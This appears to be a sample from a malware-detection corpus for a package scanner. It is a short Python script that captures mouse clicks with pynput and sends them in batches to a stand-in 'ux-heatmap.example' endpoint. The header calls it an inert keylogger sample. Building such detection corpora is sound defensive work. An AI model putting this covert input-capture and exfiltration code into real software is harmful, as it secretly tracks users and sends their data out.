# pkgguard corpus 540 (keylogger), modelled on [stealer-profile]; inert, never run.
import json
import urllib.request

from pynput import mouse

clicks = []


def _on_click(x, y, button, pressed):
    if pressed:
        clicks.append([x, y, str(button)])
    if len(clicks) >= 100:
        body = json.dumps(clicks).encode()
        urllib.request.urlopen(urllib.request.Request("https://ux-heatmap.example/c", data=body), timeout=5)
        clicks.clear()


with mouse.Listener(on_click=_on_click) as listener:
    listener.join()
